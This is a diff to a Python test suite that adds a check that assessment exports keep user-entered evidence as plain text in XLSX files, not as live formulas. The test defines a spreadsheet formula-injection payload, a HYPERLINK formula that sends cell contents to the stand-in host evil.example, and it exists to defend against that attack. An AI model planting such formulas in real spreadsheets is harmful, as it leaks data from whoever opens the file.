@@ -95,6 +95,39 @@ def test_sql_metacharacters_are_plain_text(web: Clients, world: World) -> None:
     assert counts()["accounts_user"] == before["accounts_user"]
 
 
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+
+
+def test_exports_write_evidence_as_text_never_as_a_formula(web: Clients, world: World) -> None:
+    from openpyxl import load_workbook
+
+    from migcap.capacity import assessments as am
+    from migcap.capacity import teamwork
+
+    def evidence_cell(data: bytes, item: str) -> Any:
+        ws = load_workbook(io.BytesIO(data))["Assessment"]
+        row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == item)
+        return ws.cell(row, 7)
+
+    # typed in the browser by a member, downloaded by a member
+    r = _save(web, "a_editor", world.a_work, "INT-03", level="partial", evidence=EVIL, notes="=1+1")
+    assert r.status_code == 200 and r.json()["entry"]["evidence"] == EVIL
+    r = web("a_viewer").get(f"/assess/{world.a_work}/export?format=xlsx")
+    cell = evidence_cell(r.content, "INT-03")
+    assert r.status_code == 200 and (cell.value, cell.data_type) == (EVIL, "s")
+    # published, downloaded by anyone without logging in
+    by = world.principals["b_editor"].display
+    uid = teamwork.create_for(world.orgs["B"].id, "UGA", by=by, label="B published, hostile").uid
+    am.set_item(uid, "LAB-02", level="partial", evidence=EVIL, notes="@SUM(1)", by=by, expected_version=0)
+    teamwork.publish(uid, by=world.principals["b_admin"].display)
+    r = web.anon().get(f"/assess/{uid}/export?format=xlsx")
+    cell = evidence_cell(r.content, "LAB-02")
+    assert r.status_code == 200 and (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)
+    entry = next(e for e in web.anon().get(f"/assess/{uid}/export?format=json").json()["entries"]
+                 if e["item"] == "LAB-02")
+    assert (entry["evidence"], entry["notes"]) == (EVIL, "@SUM(1)")   # JSON and YAML keep the text as it is
+
+
 def test_control_characters_and_overlong_text_are_refused(web: Clients, world: World) -> None:
     before = counts()
     for fields, words in (({"notes": "bad\x00byte"}, "control characters"),
